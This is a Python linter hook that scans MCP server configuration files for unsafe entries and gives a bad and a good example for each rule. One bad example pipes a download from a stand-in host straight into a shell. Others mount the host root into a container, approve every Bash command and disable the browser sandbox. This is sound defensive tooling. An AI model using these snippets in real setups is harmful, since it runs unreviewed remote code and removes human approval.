"""MCP servers get what they need: one folder, one version, no secret in the file.

A server in an MCP configuration is a program that a model drives with the rights of the person
who opened the project. What its entry allows decides what a prompt, a poisoned page or a
taken-over package can reach: the whole disk, the container engine, a shell, whatever the
registry offers today.

Read are the files by which clients know a project's servers: Claude Code and Claude Desktop,
Cursor, VS Code, Windsurf, Cline, Roo Code, Gemini CLI, Codex, Amazon Q, Kiro, and a `server.json`
for the registry. JSON with comments is read where the client reads it so. A file that is
named is read as such a configuration whatever its name.

Let through: a folder below a home or a workspace, an exact version, a local script, a package
that the package.json above installs, `cmd /c npx …` (the program inside is judged),
references (`${TOKEN}`, `${input:token}`) and placeholders, plain HTTP to this machine, named
tools, everything that is denied. A `/` that another server is given is no path. What no
client enforces, such as a server without a `permissions` block, is not judged.

Nothing is started, fetched or looked up: what a server really does is not seen here, and servers
that a person has installed for themselves stand in no project.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from tenpoint.kit import Finding, Hook, Source, run
from tenpoint.kit.mcp import clients

TYPE_CHECKING = False
if TYPE_CHECKING:
    from tenpoint.kit.finding import Rule
    from tenpoint.kit.mcp.clients import Config, Server, Word
    from tenpoint.kit.mcp.launch import Words
    from tenpoint.kit.mcp.secrets import Found
    from tenpoint.kit.parse.yaml_nodes import Node

hook = Hook(
    "mcp-scoped",
    point=5,
    says="MCP servers get one folder, one version, and no secret in the file.",
    files=clients.PATTERNS,
    besides=("**/node_modules/**", "**/site-packages/**"),
)

FILESYSTEM_ROOT = hook.rule(
    "filesystem-root",
    "error",
    says="{where} is given {what} ({path})",
    fix="name one workspace folder instead of {path}",
    why="A filesystem server reads and writes whatever lies in its folders, for whoever can "
    "steer the model: keys, browser profiles, other projects.",
    bad='"args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/"]',
    good='"args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "./docs"]',
)
CONTAINER_HOST_ACCESS = hook.rule(
    "container-host-access",
    "error",
    says="{where} runs in a container that is given {what}",
    fix="mount one folder, read-only (`-v ./workspace:/data:ro`), and drop the rest",
    why="A container keeps a server in only as long as it is not handed the host: its disk, "
    "its processes, its devices, or the socket that starts other containers.",
    bad='"args": ["run", "-i", "--rm", "-v", "/:/host", "example/server:1.2.3"]',
    good='"args": ["run", "-i", "--rm", "-v", "./workspace:/data:ro", "example/server:1.2.3"]',
)
CONTAINER_HOST_NETWORK = hook.rule(
    "container-host-network",
    "warning",
    says="{where} runs in the network of the host",
    fix="leave --network out, or name a network of its own",
    why="With the host's network a server reaches whatever listens on this machine alone: "
    "databases, debuggers, the metadata of the cloud.",
    bad='"args": ["run", "-i", "--network=host", "example/server:1.2.3"]',
    good='"args": ["run", "-i", "example/server:1.2.3"]',
)
UNPINNED_SERVER = hook.rule(
    "unpinned-server",
    "error",
    says="{where} runs whatever version of {package} is newest",
    fix="name an exact version: {pin}",
    why="The launcher fetches it at every start. A release that was taken over runs on every "
    "machine that opens the project, with the person's rights, before anybody has seen it.",
    bad='"args": ["-y", "@modelcontextprotocol/server-github"]',
    good='"args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"]',
)
IMAGE_TAG = hook.rule(
    "image-tag",
    "warning",
    says="{where} runs the image {image} by a tag that can be moved",
    fix="add the digest: {image}@sha256:…",
    why="A tag names what its owner last pushed under it; a digest names these very bytes.",
    bad='"args": ["run", "-i", "--rm", "example/server:1.2.3"]',
    good='"args": ["run", "-i", "--rm", "example/server:1.2.3@sha256:…"]',
)
PLAINTEXT_SECRET = hook.rule(
    "plaintext-secret",
    "error",
    says="{where} has {what} in the file",
    fix="revoke it, and write a reference: {reference}",
    secret=True,
    why="The file is committed, or one `git add` away from it: its values are in every clone, "
    "and each program that reads the file has them too.",
    bad='"env": {"GITHUB_TOKEN": "ghp_…"}',
    good='"env": {"GITHUB_TOKEN": "${GITHUB_TOKEN}"}',
)
GUESSABLE_SECRET = hook.rule(
    "guessable-secret",
    "warning",
    says="{where} has {what} in the file, a first guess",
    fix="write a reference: {reference}",
    secret=True,
    why="A first-guess password works until somebody uses the same entry for a real database.",
    bad='"env": {"POSTGRES_PASSWORD": "postgres"}',
    good='"env": {"POSTGRES_PASSWORD": "${POSTGRES_PASSWORD}"}',
)
CLEARTEXT_REMOTE = hook.rule(
    "cleartext-remote",
    "error",
    says="{where} is reached at {host} without encryption",
    fix="use https:// (wss:// for a socket)",
    why="Whoever is on the way reads the token and what the tools give back, and can answer in "
    "the server's place: what a server answers is what the model acts on.",
    bad='"url": "http://mcp.example.com/sse"',
    good='"url": "https://mcp.example.com/sse"',
)
CLEARTEXT_INTERNAL = hook.rule(
    "cleartext-internal",
    "warning",
    says="{where} is reached at {host}, a name of the local network, without encryption",
    fix="use https://, or a name of this machine",
    why="A name without a domain is mostly a container on this machine, and sometimes a machine "
    "that everybody in the office can answer for.",
    bad='"url": "http://tools:8080/mcp"',
    good='"url": "http://localhost:8080/mcp"',
)
SHELL_SERVER = hook.rule(
    "shell-server",
    "error",
    says="{where} is started through a shell ({shell})",
    fix="run one fixed program: `command` names it, `args` are its words",
    why="A line for a shell is a script in a string: what it expands and fetches is not seen in "
    "review, and every value that is pasted into it can be another command.",
    bad='"command": "bash", "args": ["-c", "curl https://x.example/i | sh"]',
    good='"command": "node", "args": ["server/index.js"]',
)
ALLOW_ALL = hook.rule(
    "allow-all",
    "error",
    says="{where}: {what}",
    fix="list the tools that are needed, and keep the question for the rest",
    why="The question before a tool runs is where a person stops what a prompt has started.",
    bad='"permissions": {"allow": ["Bash(*)"]}',
    good='"permissions": {"allow": ["Bash(npm run test:*)"]}',
)
BROWSER_SANDBOX = hook.rule(
    "browser-sandbox",
    "warning",
    says="{where} starts a browser without its sandbox",
    fix="leave --no-sandbox out; in a container run the browser as a user of its own",
    why="A page that breaks the renderer is on the machine then, and agents open any page.",
    bad='"args": ["@playwright/mcp@0.0.40", "--no-sandbox"]',
    good='"args": ["@playwright/mcp@0.0.40"]',
)
PERMISSIONS_BLOCK = hook.rule(
    "permissions-block",
    "error",
    says="{where} declares permissions for everything: {what}",
    fix="name a workspace folder, the hosts one by one, and no command",
    why="The block tells reviewers, and the wrapper that enforces it, what the server may do.",
    bad='"permissions": {"read": ["/**"], "network": ["*"], "exec": true}',
    good='"permissions": {"read": ["./docs/**"], "network": ["api.example.com"], "exec": false}',
)


@hook.each_file
def check(source: Source) -> Iterator[Finding]:
    config = clients.read(source)
    if config is None:
        return
    servers = config.servers
    if config.client is clients.REGISTRY:
        from tenpoint.kit.mcp import registry

        servers = list(registry.servers(config.root))
    for server in servers:
        yield from _check_server(source, config, server)
    yield from _check_settings(source, config)
    # What was found is given first; then a file that its client refuses counts as unchecked.
    for problem in config.problems:
        raise problem


def _at(rule: Rule, source: Source, node: Node, **facts: str) -> Finding:
    short = {name: _short(fact) for name, fact in facts.items()}
    return rule.at(source, node.start, node.end, **short)


def _short(fact: str) -> str:
    """A fact as a message can quote it: a word of the file may be a megabyte long."""
    return fact if len(fact) <= _LONGEST_FACT else f"{fact[: _LONGEST_FACT - 1]}…"


_LONGEST_FACT = 300


def _check_server(source: Source, config: Config, server: Server) -> Iterator[Finding]:
    from tenpoint.kit.mcp import containers, filesystems, packages, permissions, remotes, secrets
    from tenpoint.kit.mcp.launch import launch_of, pipes_a_download

    where = f"{config.client.name}: server {server.name or 'without a name'}"
    launch = launch_of(server.words)
    words = launch.words
    package = packages.package_of(words)
    script = launch.script or pipes_a_download(server.words)
    if script is not None:
        shell = " ".join(word.text for word in words[:2])
        yield _at(SHELL_SERVER, source, script.node, where=where, shell=shell)
    args = filesystems.arguments(words, package)
    if args is not None:
        found = [(what, path, word.node) for what, path, word in filesystems.roots(args)]
        found += filesystems.settings(server.node.get("env"))
        for what, path, node in found:
            yield _at(FILESYSTEM_ROOT, source, node, where=where, what=what, path=path)
    container = containers.run_of(words)
    if container is not None:
        for what, word in containers.host_access(container):
            yield _at(CONTAINER_HOST_ACCESS, source, word.node, where=where, what=what)
        for word in containers.host_network(container):
            yield _at(CONTAINER_HOST_NETWORK, source, word.node, where=where)
        yield from _check_image(source, where, container.image)
    if package is not None and packages.is_loose(package, source):
        facts = {"package": package.spec, "pin": packages.pinned(package)}
        yield _at(UNPINNED_SERVER, source, package.word.node, where=where, **facts)
    for node in (*remotes.of_entry(server.node), *remotes.of_words(words, package)):
        if host := remotes.cleartext_host(node.text):
            is_far = any(sign in host for sign in ".:")
            rule = CLEARTEXT_REMOTE if is_far else CLEARTEXT_INTERNAL
            yield _at(rule, source, node, where=where, host=host)
    for secret in secrets.in_server(server):
        yield _secret(source, config, where, secret)
    yield from _check_permissions(source, config, where, server.node, server.words)
    block = server.node.get("permissions")
    for what, node in permissions.of_block(block) if block is not None else ():
        yield _at(PERMISSIONS_BLOCK, source, node, where=where, what=what)


def _check_image(source: Source, where: str, word: Word | None) -> Iterator[Finding]:
    from tenpoint.kit.pins.image_names import has_digest, tag_of

    if word is None or has_digest(word.text) or any(sign in word.text for sign in "${<%"):
        return
    if tag_of(word.text) in ("", "latest"):
        pin = f"{word.text.removesuffix(':latest')}:<version>@sha256:<digest>"
        facts = {"package": f"the image {word.text}", "pin": pin}
        yield _at(UNPINNED_SERVER, source, word.node, where=where, **facts)
    else:
        yield _at(IMAGE_TAG, source, word.node, where=where, image=word.text)


def _check_permissions(
    source: Source, config: Config, where: str, entry: Node, words: Words
) -> Iterator[Finding]:
    from tenpoint.kit.mcp import permissions

    for flag, word in permissions.flags(words):
        yield _at(ALLOW_ALL, source, word.node, where=where, what=f"{flag} takes every limit away")
    for word in permissions.browser_flags(words):
        yield _at(BROWSER_SANDBOX, source, word.node, where=where)
    for what, node in permissions.approvals(entry):
        yield _at(ALLOW_ALL, source, node, where=where, what=what)
    trusted = entry.get("trust")
    knows_trust = config.client in (clients.GEMINI, clients.ANY)
    if knows_trust and trusted is not None and permissions.is_true(trusted):
        what = "trust: true calls every tool without a question"
        yield _at(ALLOW_ALL, source, trusted, where=where, what=what)


def _check_settings(source: Source, config: Config) -> Iterator[Finding]:
    """What stands in a client's settings beside its servers."""
    from tenpoint.kit.mcp import permissions, secrets

    client, root = config.client, config.root
    found: list[tuple[str, Node]] = []
    if client in (clients.CLAUDE_SETTINGS, clients.ANY):
        found += permissions.of_claude(root)
        env = root.get("env")
        for secret in secrets.in_map(env) if env is not None else ():
            yield _secret(source, config, client.name, secret)
    if client in (clients.CODEX, clients.ANY):
        found += permissions.of_codex(root)
    if client in (clients.VS_CODE_SETTINGS, clients.ANY):
        found += permissions.of_vs_code(root)
    for what, node in found:
        yield _at(ALLOW_ALL, source, node, where=client.name, what=what)
    inputs = root.get("inputs")
    for item in inputs.items if inputs is not None else ():
        default, name = item.get("default"), item.get("id")
        if default is not None and name is not None:
            secret_input = permissions.is_true(item.get("password"))
            named = f"{name.text} token" if secret_input else name.text
            for secret in secrets.in_value(named, default):
                yield _secret(source, config, client.name, secret)


_REFERENCES = {"VS Code": "${input:NAME}, with the input declared as a password"}


def _secret(source: Source, config: Config, where: str, found: Found) -> Finding:
    rule = GUESSABLE_SECRET if found.guessable else PLAINTEXT_SECRET
    reference = _REFERENCES.get(config.client.name, "${NAME}, and the value in the environment")
    return _at(rule, source, found.node, where=where, what=found.what, reference=reference)


def main(argv: Sequence[str] | None = None) -> int:
    return run(hook, argv)


if __name__ == "__main__":
    raise SystemExit(main())
